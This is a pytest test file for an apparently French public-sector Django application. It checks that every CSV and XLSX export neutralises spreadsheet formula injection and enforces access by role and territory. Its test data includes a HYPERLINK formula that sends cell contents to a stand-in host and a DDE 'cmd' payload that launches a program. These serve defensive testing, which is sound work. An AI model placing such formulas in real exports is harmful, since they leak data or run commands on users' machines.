"""Issue 15, finding 1: no spreadsheet export carries a formula. A text cell beginning with `=`, `+`, `-`, `@`, a
tab or a carriage return gets a single quote in front (OWASP's rule, core.spreadsheet), in CSV and XLSX alike,
and openpyxl stores it as text; numbers stay numbers. Each export family is reached through its view, by an
allowed user, a user of the same role outside the scope, and an anonymous visitor."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from pacte.core.exports import csv_cell, xlsx_response
from pacte.core.spreadsheet import is_formula_like, neutralise
from pacte.grants import services as grant_services
from tests.accounts.factories import UserFactory
from tests.contracts.factories import action_data, build_contract
from tests.governance.factories import (
    CommitteeFactory,
    ContributionFactory,
    DecisionFactory,
    MeetingFactory,
    StakeholderFactory,
    ThemeFactory,
)
from tests.grants.factories import ApplicationFactory, CallFactory, select
from tests.helpers import is_login
from tests.observation.factories import IndicatorFactory, ObservationFactory
from tests.territories.factories import DepartementFactory, RegionFactory

PAYLOAD = '=HYPERLINK("http://x.example/?v="&A1,"clic")'
FORMULAS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1"]
KEPT = ["-12", "-12,5", "+3", "-0.5", "Épicerie solidaire", "a=b", "", "2025-01-01", "'=déjà"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_beginning_like_a_formula_gets_a_single_quote(text):
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text
    assert neutralise(neutralise(text)) == neutralise(text)


@pytest.mark.parametrize("text", KEPT)
def test_plain_numbers_and_ordinary_text_are_kept(text):
    assert neutralise(text) == text and csv_cell(text) == text


def test_numbers_stay_numbers_in_csv():
    assert [csv_cell(value) for value in (Decimal("-12.5"), -3, -2.5, True)] == ["-12,5", "-3", "-2,5", "oui"]


def _sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_the_xlsx_writer_stores_text_never_a_formula_and_numbers_as_numbers():
    rows = [[PAYLOAD, Decimal("-12.5"), -3], ["@SUM(A1)", "-1+2", "-12"], ["\x00NUL", "a\x1bb", None]]
    sheet = _sheet(xlsx_response("t.xlsx", ["=Titre", "Montant", "Nombre"], rows))
    cells = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    assert cells[0][0] == ("'=Titre", "s")
    assert cells[1] == [("'" + PAYLOAD, "s"), (-12.5, "n"), (-3, "n")]
    assert cells[2] == [("'@SUM(A1)", "s"), ("'-1+2", "s"), ("-12", "s")]
    # The control characters XML forbids would make openpyxl fail the whole export: replaced.
    assert cells[3][:2] == [("\ufffdNUL", "s"), ("a\ufffdb", "s")]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def _cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


# --- Contracts: consolidation and fiches-actions --------------------------------------------------------


@pytest.fixture
def regions():
    alpha, beta = RegionFactory(code="84", name="Région Alpha"), RegionFactory(code="93", name="Région Bêta")
    build_contract(DepartementFactory(code="69", name=PAYLOAD, parent=alpha))
    return alpha, beta


def test_the_consolidation_holds_the_formula_as_text_in_csv_and_xlsx(client, regions):
    alpha, beta = regions
    csv_url = reverse("contracts:consolidation_export", args=["84", "contrats", "csv"])
    xlsx_url = reverse("contracts:consolidation_export", args=["84", "contrats", "xlsx"])
    assert is_login(client.get(csv_url))
    client.force_login(UserFactory(commissioner=True, territory=beta))
    assert client.get(csv_url).status_code == 403
    client.force_login(UserFactory(commissioner=True, territory=alpha))
    cells = _cells(_csv(client.get(csv_url)))
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells
    sheet = _sheet(client.get(xlsx_url))
    written = [
        cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert [(cell.value, cell.data_type) for cell in written] == [("'" + PAYLOAD, "s")]


def test_the_fiches_actions_export_holds_titles_as_text(client, loire_atlantique, vendee):
    contract = build_contract(loire_atlantique, actions=[action_data(title="@SUM(1+1)*cmd")], signed=False)
    url = reverse("contracts:export_actions", args=[contract.pk, "csv"])
    assert is_login(client.get(url))
    client.force_login(UserFactory(departement_council=True, territory=vendee))
    assert client.get(url).status_code == 404
    client.force_login(UserFactory(departement_council=True, territory=loire_atlantique))
    assert "'@SUM(1+1)*cmd" in _cells(_csv(client.get(url)))
    sheet = _sheet(client.get(reverse("contracts:export_actions", args=[contract.pk, "xlsx"])))
    assert ("'@SUM(1+1)*cmd", "s") in [
        (cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row
    ]


# --- Observation open data --------------------------------------------------------------------------------


def test_the_observation_open_data_holds_text_cells_as_text_and_values_as_numbers(client, loire_atlantique):
    indicator = IndicatorFactory(code="SOLDE", label="+Solde migratoire", source="INSEE")
    ObservationFactory(indicator=indicator, territory=loire_atlantique, period=2021, value=Decimal("-3.5"))
    ObservationFactory(indicator=indicator, territory=loire_atlantique, period=2022, value=Decimal("1"))
    indicator.observations.filter(period=2022).update(source=PAYLOAD)
    hidden = IndicatorFactory(code="NR_RSA", label="-Non-recours", restricted=True)
    ObservationFactory(indicator=hidden, territory=loire_atlantique, period=2022, value=Decimal("34"))
    rows = _csv(client.get(reverse("observation:opendata_csv", args=["SOLDE"])))  # public: anonymous reads it
    header, *values = rows
    by_period = {row[header.index("periode")]: row for row in values}
    assert by_period["2021"][header.index("valeur")] == "-3,5"  # a negative number stays a number
    assert {row[header.index("libelle")] for row in values} == {"'+Solde migratoire"}
    assert by_period["2022"][header.index("source")] == "'" + PAYLOAD
    restricted = reverse("observation:opendata_csv", args=["NR_RSA"])
    assert client.get(restricted).status_code == 404
    client.force_login(UserFactory(ddets=True, territory=loire_atlantique))
    assert client.get(restricted).status_code == 404  # a restricted indicator is never open data


# --- Grants: SCDL open data and the consolidation ----------------------------------------------------------


def test_the_scdl_open_data_holds_names_and_titles_as_text(client, loire_atlantique):
    commissioner = UserFactory(commissioner=True, territory=loire_atlantique.parent)
    call = CallFactory(region=loire_atlantique.parent)
    application = ApplicationFactory(
        call=call, territory=loire_atlantique, project_title=PAYLOAD, amounts={2025: "12500.50"}
    )
    application.organisation.name = "-Association =cmd"
    application.organisation.save()
    grant_services.close_call(call, commissioner)
    select(application, commissioner)
    response = client.get(reverse("grants:opendata_csv"))  # public: anonymous reads it
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8")))
    assert row["objet"] == "'" + PAYLOAD and row["nomBeneficiaire"] == "'-Association =cmd"
    assert row["montant"] == "12500.50"


# --- Governance: public decisions and the concertation synthesis ------------------------------------------


def test_the_decisions_csv_holds_the_text_of_a_decision_as_text(client, region):
    public = CommitteeFactory(territory=region, public=True)
    DecisionFactory(meeting=MeetingFactory(committee=public, past=True), text=PAYLOAD)
    closed = CommitteeFactory(territory=region)
    DecisionFactory(meeting=MeetingFactory(committee=closed, past=True), text="-1+2")
    url = reverse("governance:committee_decisions", args=[public.pk]) + "?format=csv"
    assert "'" + PAYLOAD in _cells(_csv(client.get(url)))  # a public committee: anonymous reads it
    hidden = reverse("governance:committee_decisions", args=[closed.pk]) + "?format=csv"
    assert is_login(client.get(hidden))
    client.force_login(UserFactory(commissioner=True, territory=RegionFactory(code="11")))
    assert client.get(hidden).status_code == 404
    client.force_login(UserFactory(commissioner=True, territory=region))
    assert "'-1+2" in _cells(_csv(client.get(hidden)))


def test_the_synthesis_csv_holds_an_associations_contribution_as_text(client, region):
    theme = ThemeFactory()
    ContributionFactory(
        stakeholder=StakeholderFactory(name="@Collectif"), theme=theme, filed=True, title=PAYLOAD
    )
    url = reverse("governance:synthesis", args=[theme.code]) + "?format=csv"
    assert is_login(client.get(url))
    client.force_login(UserFactory(departement_council=True))
    assert client.get(url).status_code == 403
    client.force_login(UserFactory(national=True))
    cells = _cells(_csv(client.get(url)))
    assert "'" + PAYLOAD in cells and "'@Collectif" in cells and PAYLOAD not in cells
